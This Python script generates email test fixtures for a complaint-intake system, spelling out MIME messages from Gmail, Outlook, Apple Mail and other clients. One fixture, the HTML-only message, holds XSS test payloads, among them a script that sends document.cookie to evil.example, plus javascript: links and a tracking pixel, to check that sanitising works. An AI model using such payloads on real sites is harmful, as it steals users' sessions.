"""Writes the email test corpus in this folder. The .eml files it writes are committed; run it again only
to change the corpus: `.venv/bin/python src/amends/intake/tests/emails/generate.py`.

Each message is spelt out byte by byte the way the named client writes it (header order, boundaries,
transfer encodings, folding, line endings), so the tests read real-world-shaped MIME rather than
whatever the standard library would generate. Only the encodings that are tedious by hand (base64
bodies, encoded words in Japanese, the binary attachments) are computed here.
"""

from __future__ import annotations

import base64
import struct
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent


def crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def b64_lines(data: bytes, width: int = 76, nl: str = "\n") -> str:
    encoded = base64.b64encode(data).decode("ascii")
    return nl.join(encoded[i : i + width] for i in range(0, len(encoded), width)) + nl


def qp(text: str, charset: str = "utf-8") -> str:
    """Quoted-printable as mail clients write it: lines of at most 76 characters, "=" soft breaks."""
    out = []
    for line in text.split("\n"):
        tokens = [
            chr(byte) if 32 <= byte <= 126 and byte != 0x3D or byte == 9 else f"={byte:02X}"
            for byte in line.encode(charset)
        ]
        if tokens and tokens[-1] in (" ", "\t"):
            tokens[-1] = f"={ord(tokens[-1]):02X}"
        current = ""
        for token in tokens:
            if len(current) + len(token) > 75:
                out.append(current + "=")
                current = ""
            current += token
        out.append(current)
    return "\n".join(out)


def encoded_word(text: str, charset: str) -> str:
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode('ascii')}?="


def write(name: str, data: bytes) -> None:
    (HERE / name).write_bytes(data)


# --- binary attachments -----------------------------------------------------------------------------


def make_pdf() -> bytes:
    """A small but valid one-page PDF, with the binary comment line real PDF writers put after the header."""
    text = b"BT /F1 18 Tf 72 770 Td (Curriculum vitae - Lucie Moreau) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def make_png() -> bytes:
    """An 8x6 RGB PNG: a photo of a receipt, as far as the tests are concerned."""
    width, height = 8, 6
    rows = b""
    for y in range(height):
        rows += b"\x00" + b"".join(bytes(((x * 31) % 256, (y * 47) % 256, 0xA3)) for x in range(width))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


# --- the messages -----------------------------------------------------------------------------------

GMAIL_TEXT = """\
Hello,

I was charged £48.20 for October but my tariff is £32.00 a month. Your online account still shows \
the old tariff even though I switched on 1 September.

Please correct the bill and refund the difference.

Thanks,
Sarah
"""
GMAIL_HTML = (
    '<div dir="ltr"><div>Hello,</div><div><br></div><div>I was charged £48.20 for October but my '
    'tariff is £32.00 a month. Your <a href="https://account.northwind-energy.example/tariff">online '
    "account</a> still shows the old tariff even though I switched on 1 September.</div><div><br></div>"
    "<div>Please correct the bill and refund the difference.</div><div><br></div><div>Thanks,</div>"
    "<div>Sarah</div></div>"
)
GMAIL_ALTERNATIVE = crlf(f"""\
Received: by mail-wr1-f41.google.com with SMTP id ffacd0b85a97d-3a4f7c2b1e9so812345f8f.1
        for <complaints@amends.example>; Tue, 17 Nov 2026 01:14:05 -0800 (PST)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=gmail.com; s=20230601; t=1763370845;
        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to;
        bh=Qm9keSBoYXNoIGZvciBhIHRlc3QgZml4dHVyZSBvbmx5Lg==;
        b=ZmFrZSBzaWduYXR1cmUgZm9yIGEgdGVzdCBmaXh0dXJlLCBub3QgdmVyaWZpYWJsZQ==
X-Gm-Message-State: AOJu0YzKq3mN8v2xXb1cD4eF5gH6iJ7kL8mN9oP0qR1sT2uV3wX4yZ5a
MIME-Version: 1.0
From: Sarah O'Neill <sarah.oneill@gmail.com>
Date: Tue, 17 Nov 2026 09:14:03 +0000
Message-ID: <CAJ7qL0n4sVx=bq8Y1W2kG+XhT9dRpZ3mN5oUfE6aHc@mail.gmail.com>
Subject: Overcharged on my October bill
To: complaints@amends.example
Content-Type: multipart/alternative; boundary="000000000000b3f1a80612e4c7d9"

--000000000000b3f1a80612e4c7d9
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_TEXT)}
--000000000000b3f1a80612e4c7d9
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_HTML)}

--000000000000b3f1a80612e4c7d9--
""")

HTML_ONLY = crlf("""\
Return-Path: <m.evans@btinternet.com>
From: "Mark Evans" <m.evans@btinternet.com>
To: complaints@amends.example
Subject: Engineer visit never happened
Date: Mon, 16 Nov 2026 18:40:11 +0000
Message-ID: <1763318411.5521.webmail@btinternet.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 7bit
X-Mailer: BT Webmail

<html><head><title>Complaint</title><style>p { color: red }</style>
<script>alert('xss')</script></head>
<body>
<p onclick="steal()">My engineer visit on <b>12 November</b> never happened.</p>
<img src="http://tracker.example/open.gif?id=8812" width="1" height="1">
<p>Please call me &amp; explain why nobody came.</p>
<script type="text/javascript">document.location='http://evil.example/?c='+document.cookie</script>
<p><a href="javascript:alert(1)">Click here</a> or see <a href="https://example.com/account" onmouseover="x()">my account</a>.</p>
</body></html>
""")

OUTLOOK_TEXT = """\
Hello,

I’ve waited in all day on 16 November for the engineer you booked (booking 44817) and nobody came \
or phoned. That’s the second time this month.

I would like compensation for the two days’ leave I have lost.

Kind regards,
Siobhan Brennan
"""
OUTLOOK_HTML = """\
<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style><!--
p.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}
--></style>
</head>
<body lang="EN-GB" link="#0563C1" vlink="#954F72">
<div class="WordSection1">
<p class="MsoNormal">Hello,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">I’ve waited in all day on 16 November for the engineer you booked (booking \
44817) and nobody came or phoned. That’s the second time this month.<o:p></o:p></p>
<p class="MsoNormal">I would like compensation for the two days’ leave I have lost.<o:p></o:p></p>
<p class="MsoNormal">Kind regards,<br>Siobhan Brennan<o:p></o:p></p>
</div>
</body>
</html>
"""
OUTLOOK_QP = crlf(f"""\
From: "Brennan, Siobhan" <Siobhan.Brennan@outlook.com>
To: "complaints@amends.example" <complaints@amends.example>
Subject: =?utf-8?B?TWlzc2VkIGFwcG9pbnRtZW50IOKAkyBub2JvZHkgdHVybmVkIHVw?=
Thread-Topic: =?utf-8?B?TWlzc2VkIGFwcG9pbnRtZW50IOKAkyBub2JvZHkgdHVybmVkIHVw?=
Thread-Index: AQHbOx2kR5tYc1mQNEu0nB8vWq3z4A==
Date: Wed, 18 Nov 2026 16:02:41 +0000
Message-ID:
 <AM9PR03MB7428E1F0A6B2C3D4E5F6A7B8C9D0E1F2@AM9PR03MB7428.eurprd03.prod.outlook.com>
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: multipart/alternative;
\tboundary="_000_AM9PR03MB7428E1F0A6B2C3D4E5F6A7B8AM9PR03MB7428eurp_"
MIME-Version: 1.0

--_000_AM9PR03MB7428E1F0A6B2C3D4E5F6A7B8AM9PR03MB7428eurp_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(OUTLOOK_TEXT)}
--_000_AM9PR03MB7428E1F0A6B2C3D4E5F6A7B8AM9PR03MB7428eurp_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(OUTLOOK_HTML)}
--_000_AM9PR03MB7428E1F0A6B2C3D4E5F6A7B8AM9PR03MB7428eurp_--
""")

BASE64_BODY_TEXT = (
    "Hi,\n\nMy direct debit was taken twice on 1 November (£29.99 × 2). "
    "Please refund the duplicate payment.\n\nThanks,\nPriya\n"
)
BASE64_TEXT = crlf("""\
MIME-Version: 1.0
Date: Fri, 13 Nov 2026 07:55:32 +0000
Message-ID: <u4k2zq1s9m-7xg3b0d8wq1e-5p2c@email.android.com>
Subject: Direct debit taken twice
From: Priya Shah <priya.shah@yahoo.co.uk>
To: complaints@amends.example
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64
X-Mailer: Samsung Email (6.1.90.16)

""") + b64_lines(BASE64_BODY_TEXT.replace("\n", "\r\n").encode("utf-8"), nl="\r\n")

WINDOWS_1252 = crlf("""\
From: "Geoff Barker" <geoff.barker@talktalk.net>
To: <complaints@amends.example>
Subject: Letter dated 3rd November
Date: Mon, 16 Nov 2026 14:22:05 -0000
Message-ID: <8E2F4A1B9C3D4E5F8A7B@GeoffPC>
MIME-Version: 1.0
Content-Type: text/plain;
	format=flowed;
	charset="Windows-1252";
	reply-type=original
Content-Transfer-Encoding: 8bit
X-Priority: 3
X-MSMail-Priority: Normal
Importance: Normal
X-Mailer: Microsoft Windows Live Mail 16.4.3528.331
X-MimeOLE: Produced By Microsoft MimeOLE V16.4.3528.331

Dear Sir or Madam,

I received your letter marked \x93final notice\x94 demanding \xa3120.50, but\x20
I paid this in full on 2 October \x96 my bank\x92s reference is FP-99812.

I\x92m 78 years old and this letter has caused me a great deal of worry.

Geoff Barker
""")

JP_SUBJECT = "請求金額の誤りについて"
JP_NAME = "佐藤 花子"
JP_BODY = (
    "いつもお世話になっております。\n"
    "先月の請求は３，２００円のはずですが、５，８００円請求されました。\n"
    "確認をお願いします。\n"
    "\n"
    "佐藤花子\n"
)
ISO_2022_JP = crlf(f"""\
Return-Path: <hanako.sato@docomo.ne.jp>
From: {encoded_word("佐藤", "ISO-2022-JP")} {encoded_word("花子", "ISO-2022-JP")}
 <hanako.sato@docomo.ne.jp>
To: complaints@amends.example
Subject: {encoded_word(JP_SUBJECT, "ISO-2022-JP")}
Date: Thu, 19 Nov 2026 21:05:10 +0900
Message-ID: <20261119210510.A1B2C3D4E5@docomo.ne.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit
X-Mailer: Docomo Mail

""").encode("ascii") + JP_BODY.replace("\n", "\r\n").encode("iso-2022-jp")

APPLE_SUBJECT = "Refund still not received — third request ☹ (order #58213)"
APPLE_TEXT = """\
Hello,

I returned the faulty kettle on 2 October and was promised a refund within 14 days. It’s now \
seven weeks later.

Zoë
"""
APPLE_MAIL = f"""\
From: =?utf-8?Q?Zo=C3=AB_Br=C3=BCckner?= <zoe.bruckner@icloud.com>
Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))
Subject: {encoded_word("Refund still not received — third ", "UTF-8")}
 {encoded_word("request ☹ (order #58213)", "UTF-8")}
Message-Id: <8F3C2A1E-4B5D-4E6F-9A7B-1C2D3E4F5A6B@icloud.com>
Date: Fri, 20 Nov 2026 08:30:00 +0000
To: complaints@amends.example
X-Mailer: Apple Mail (2.3826.200.121)

{qp(APPLE_TEXT)}"""

THUNDERBIRD_LATIN1 = """\
Message-ID: <5e0c7d1a-2b3f-4c9e-8d1a-7f6e5d4c3b2a@wanadoo.fr>
Date: Sat, 21 Nov 2026 11:47:22 +0100
MIME-Version: 1.0
User-Agent: Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101
 Thunderbird/52.9.1
Content-Language: fr
To: complaints@amends.example
From: =?iso-8859-1?Q?Ren=E9e_Lef=E8vre?= <renee.lefevre@wanadoo.fr>
Subject: =?iso-8859-1?Q?R=E9clamation=3A_facture_du_mois_de_f=E9vrier?=
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

Bonjour,

Votre facture de f\xe9vrier compte deux fois la m\xeame r\xe9paration.
Merci de me rembourser \xe0 bient\xf4t.

Ren\xe9e
"""

PDF = make_pdf()
PNG = make_png()
MIXED_ATTACHMENTS = (
    """\
Message-ID: <b7d1e0c4-3a92-4f1e-9d3b-2c6a8e5f7a10@laposte.net>
Date: Thu, 12 Nov 2026 20:12:45 +0000
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-GB
To: complaints@amends.example
From: Lucie Moreau <lucie.moreau@laposte.net>
Subject: You sent my CV to another applicant
Content-Type: multipart/mixed; boundary="------------r6Kq2WcNzX0bYpE4dL1sJ8vA"

This is a multi-part message in MIME format.
--------------r6Kq2WcNzX0bYpE4dL1sJ8vA
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Hello,

Another applicant has told me she received my CV from your recruitment
team. I attach the CV you sent her and a photo of the receipt for the
interview expenses you still owe me.

Lucie Moreau

--------------r6Kq2WcNzX0bYpE4dL1sJ8vA
Content-Type: application/pdf; name*=UTF-8''r%C3%A9sum%C3%A9.pdf
Content-Disposition: attachment; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf
Content-Transfer-Encoding: base64

"""
    + b64_lines(PDF, width=72)
    + """
--------------r6Kq2WcNzX0bYpE4dL1sJ8vA
Content-Type: image/png; name="receipt.png"
Content-Disposition: attachment; filename="receipt.png"
Content-Transfer-Encoding: base64

"""
    + b64_lines(PNG, width=72)
    + """
--------------r6Kq2WcNzX0bYpE4dL1sJ8vA--
"""
)

FORWARDED = """\
Message-ID: <0f4b9c2e-77a1-4d2b-b8e3-5c1d9a6e2f47@gmx.co.uk>
Date: Tue, 10 Nov 2026 19:03:27 +0000
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-GB
To: complaints@amends.example
From: Owen Price <owen.price@gmx.co.uk>
Subject: Fwd: Your new contract
Content-Type: multipart/mixed; boundary="------------0Ab1Cd2Ef3Gh4Ij5Kl6Mn7O"

This is a multi-part message in MIME format.
--------------0Ab1Cd2Ef3Gh4Ij5Kl6Mn7O
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Please see the attached email from your sales team, which promised me
a price freeze. My bill went up anyway.

Owen

--------------0Ab1Cd2Ef3Gh4Ij5Kl6Mn7O
Content-Type: message/rfc822; name="Your new contract.eml"
Content-Disposition: attachment; filename="Your new contract.eml"

Return-Path: <sales@northwind-energy.example>
From: Northwind Energy Sales <sales@northwind-energy.example>
To: owen.price@gmx.co.uk
Subject: Your new contract
Date: Mon, 3 Aug 2026 10:00:00 +0100
Message-ID: <contract-88412.20260803@northwind-energy.example>
List-Unsubscribe: <https://northwind-energy.example/unsubscribe?u=owen.price%40gmx.co.uk&c=88412>, <mailto:unsubscribe@northwind-energy.example?subject=unsubscribe>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Dear Mr Price,

We confirm your unit price is fixed for 12 months at 24.50p per kWh.

Northwind Energy Sales

--------------0Ab1Cd2Ef3Gh4Ij5Kl6Mn7O--
"""

# The Message-ID Amends gave its acknowledgement, and the case reference: tests put the real ones in.
ACK_ID = "<176337084512.40123.9051725593815502431@amends.example>"
REPLY = crlf(f"""\
MIME-Version: 1.0
References: <CAJ7qL0n4sVx=bq8Y1W2kG+XhT9dRpZ3mN5oUfE6aHc@mail.gmail.com>
 {ACK_ID}
In-Reply-To: {ACK_ID}
From: Sarah O'Neill <sarah.oneill@gmail.com>
Date: Wed, 18 Nov 2026 12:31:50 +0000
Message-ID: <CAJ7qL0kR2eWm8Zt5Vb3Nx6Qy4Ls9Pd1Hf7Gj0Ak2Uc@mail.gmail.com>
Subject: Re: We have received your complaint [AM-2026-000001]
To: complaints@amends.example
Content-Type: multipart/alternative; boundary="0000000000004c2a1f0612f01b3e"

--0000000000004c2a1f0612f01b3e
Content-Type: text/plain; charset="UTF-8"

Here is the meter reading you asked for: 04412.

On Tue, 17 Nov 2026 at 09:15, <complaints@amends.example> wrote:

> Thank you for contacting us. We have received your complaint and
> its reference is AM-2026-000001.
>

--0000000000004c2a1f0612f01b3e
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Here is the meter reading you asked for: 04412.</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, 17 Nov 2026 at 09:15, &lt;<a href="mailto:complaints@amends.example">complaints@amends.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Thank you for contacting us. We have received your complaint and its reference is AM-2026-000001.<br></blockquote></div>

--0000000000004c2a1f0612f01b3e--
""")

REFERENCE_SUBJECT = """\
Content-Type: text/plain;
	charset=us-ascii
Content-Transfer-Encoding: 7bit
From: Sarah O'Neill <Sarah.ONeill@gmail.com>
Mime-Version: 1.0 (1.0)
Date: Sun, 22 Nov 2026 07:41:12 +0000
Subject: Still waiting - AM-2026-000001
Message-Id: <5B7E0C2D-91AF-4C3B-A6D2-0E8F7A9B1C2D@gmail.com>
To: complaints@amends.example
X-Mailer: iPhone Mail (22B91)

It has been five days and I have heard nothing about my bill.

Sent from my iPhone
"""

REFERENCE_STRANGER = crlf("""\
From: Dave Smith <dave.smith@hotmail.co.uk>
To: "complaints@amends.example" <complaints@amends.example>
Subject: AM-2026-000001 - add this to the case please
Date: Sun, 22 Nov 2026 09:02:17 +0000
Message-ID:
 <LO2P265MB5312A7C9E8F1D2B3A4C5D6E7F8A9B0C1@LO2P265MB5312.GBRP265.PROD.OUTLOOK.COM>
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

Please send me every letter you have on this case, I am her neighbour.

Dave
""")

NO_MESSAGE_ID = crlf("""\
From: Amir Khan <amir.khan@khan-accountants.example>
To: complaints@amends.example
Subject: Scanned letter about my pension transfer
Date: Thu, 19 Nov 2026 10:15:00 +0000
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit
X-Mailer: SmtpMailer 1.0 (Lexmark MX431adn)

My pension transfer was requested on 1 September and has still not happened.
I have been told three different dates on the phone.

Amir Khan
""")

UNKNOWN_CHARSET = crlf("""\
From: Tomas O'Brien <tomas@obrien-cafe.example>
To: complaints@amends.example
Subject: Van blocking my entrance
Date: Fri, 20 Nov 2026 15:45:09 +0000
Message-ID: <20261120154509.0001@obrien-cafe.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-unknown"
Content-Transfer-Encoding: 8bit
X-Mailer: TillMail 2.1

Café owner here – your van blocked my entrance for 3 hours. Cost me £200 in lost trade.
""")


def long_subject() -> str:
    sentence = (
        "I have now called your helpline nine times about the broken boiler and each time I am told "
        "that someone will call me back but nobody ever does"
    )
    text = ". ".join([sentence] * 20)
    return text[:1999].rstrip() + "!" * (2000 - len(text[:1999].rstrip()))


def fold(name: str, value: str, width: int = 78) -> str:
    lines, line = [], f"{name}:"
    for word in value.split(" "):
        if len(line) + 1 + len(word) > width and line.strip():
            lines.append(line)
            line = ""
        line += " " + word
    lines.append(line)
    return "\n".join(lines)


LONG_SUBJECT = crlf(f"""\
From: Helen Ward <helen.ward@outlook.com>
To: complaints@amends.example
{fold("Subject", long_subject())}
Date: Sat, 21 Nov 2026 22:10:44 +0000
Message-ID:
 <DB7PR10MB2475C3E1F0A9B8C7D6E5F4A3B2C1D0E9@DB7PR10MB2475.EURPRD10.PROD.OUTLOOK.COM>
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit
MIME-Version: 1.0

See subject.
""")

NO_SENDER = """\
From: root (Cron Daemon)
To: complaints@amends.example
Subject: Cron <root@billing01> /usr/local/bin/nightly-export
Date: Sun, 22 Nov 2026 02:00:01 +0000
Message-ID: <20261122020001.7F3A2B@billing01>
Content-Type: text/plain; charset=UTF-8

export finished: 0 rows
"""

PASTED_LETTER = """\
Dear Sir/Madam,

I am writing to complain about the way my account was closed without notice.
Despite three phone calls nobody has explained why.

Yours faithfully,
J. Doe
"""

MBOX = (
    b"From priya.shah@yahoo.co.uk Fri Nov 13 07:55:32 2026\n"
    b"From: Priya Shah <priya.shah@yahoo.co.uk>\n"
    b"To: complaints@amends.example\n"
    b"Subject: Direct debit taken twice\n"
    b"Date: Fri, 13 Nov 2026 07:55:32 +0000\n"
    b"Message-ID: <mbox-1@yahoo.co.uk>\n"
    b"\n"
    b"My direct debit was taken twice on 1 November.\n"
    b"\n"
    b"From tenant.jones@example.org Sat Nov 14 10:01:00 2026\n"
    b"From: Rhys Jones <tenant.jones@example.org>\n"
    b"To: complaints@amends.example\n"
    b"Subject: Heating\n"
    b"Date: Sat, 14 Nov 2026 10:01:00 +0000\n"
    b"Message-ID: <mbox-2@example.org>\n"
    b"\n"
    b"Hello,\n"
    b"\n"
    b">From the day I moved in, the heating has not worked.\n"
    b"My neighbour quoted your letter to me:\n"
    b">>From now on, repairs take 28 days.\n"
    b"\n"
    b"From mo.ali@example.net Sun Nov 15 16:30:00 2026\n"
    b"From: Mo Ali <mo.ali@example.net>\n"
    b"To: complaints@amends.example\n"
    b"Subject: Rude call handler\n"
    b"Date: Sun, 15 Nov 2026 16:30:00 +0000\n"
    b"Message-ID: <mbox-3@example.net>\n"
    b"\n"
    b"The person I spoke to on Friday hung up on me.\n"
    b"\n"
)


def main() -> None:
    (HERE / "attachments").mkdir(exist_ok=True)
    (HERE / "attachments" / "resume.pdf").write_bytes(PDF)
    (HERE / "attachments" / "receipt.png").write_bytes(PNG)
    write("gmail_alternative.eml", GMAIL_ALTERNATIVE.encode("ascii"))
    write("html_only_script.eml", HTML_ONLY.encode("ascii"))
    write("outlook_quoted_printable.eml", OUTLOOK_QP.encode("ascii"))
    write("android_base64.eml", BASE64_TEXT.encode("ascii"))
    write("windows_live_1252.eml", WINDOWS_1252.encode("latin-1"))
    write("docomo_iso2022jp.eml", ISO_2022_JP)
    write("apple_mail_encoded_words.eml", APPLE_MAIL.encode("ascii"))
    write("thunderbird_latin1.eml", THUNDERBIRD_LATIN1.encode("latin-1"))
    write("thunderbird_attachments.eml", MIXED_ATTACHMENTS.encode("ascii"))
    write("thunderbird_forwarded.eml", FORWARDED.encode("ascii"))
    write("gmail_reply.eml", REPLY.encode("ascii"))
    write("iphone_reference_subject.eml", REFERENCE_SUBJECT.encode("ascii"))
    write("outlook_reference_stranger.eml", REFERENCE_STRANGER.encode("ascii"))
    write("scanner_no_message_id.eml", NO_MESSAGE_ID.encode("ascii"))
    write("unknown_charset.eml", UNKNOWN_CHARSET.encode("utf-8"))
    write("outlook_long_subject.eml", LONG_SUBJECT.encode("ascii"))
    write("cron_no_sender.eml", NO_SENDER.encode("ascii"))
    write("pasted_letter.txt", PASTED_LETTER.encode("ascii"))
    write("three.mbox", MBOX)


if __name__ == "__main__":
    main()
